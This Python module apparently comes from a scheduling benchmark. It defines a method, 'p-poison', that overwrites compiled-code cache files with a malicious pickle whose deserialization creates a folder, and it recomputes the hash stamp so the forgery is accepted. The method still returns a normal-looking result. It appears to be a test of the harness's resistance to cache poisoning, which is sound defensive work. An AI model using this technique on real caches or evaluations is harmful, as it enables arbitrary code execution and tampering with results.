"""A method that attacks compiled code: of what it may write it makes code of its own, whole and with the right stamp."""

import hashlib
import os
import pickle
from contextlib import suppress
from pathlib import Path

import numpy as np

from schedgap.instances.jit import kernel
from schedgap.instances.method import Outcome, method
from schedgap.instances.provisioning import Provisioning

# Before a run of it, and in it, this names the folder.
PLACES = Path(__file__).with_name("places.txt")


@kernel
def one():
    return 1


class Evil:
    """Whoever reads a pickle of it makes a folder."""

    def __reduce__(self):
        return os.makedirs, (str(PLACES.with_name("evil")), 0o777, True)


@method("p-poison", family="provisioning")
def poison(instance):
    """Cost what `no-packing` costs; tell what was written, and what was found compiled."""
    evil = pickle.dumps(Evil())
    written = 0
    for place in PLACES.read_text().split():
        for path in [*Path(place).rglob("*.nbi"), *Path(place, "schedgap").glob("*.compiled")]:
            with suppress(OSError):
                stamp = path.read_bytes()[32:64]
                path.write_bytes(hashlib.sha256(stamp + evil).digest() + stamp + evil)
                written += 1
    types = instance.reservation_type[instance.task_classes()]
    one()
    details = {"written": written, "hits": sum(one.stats.cache_hits.values())}
    return Outcome(Provisioning.from_tasks(instance, types, np.arange(instance.num_tasks)), details=details)
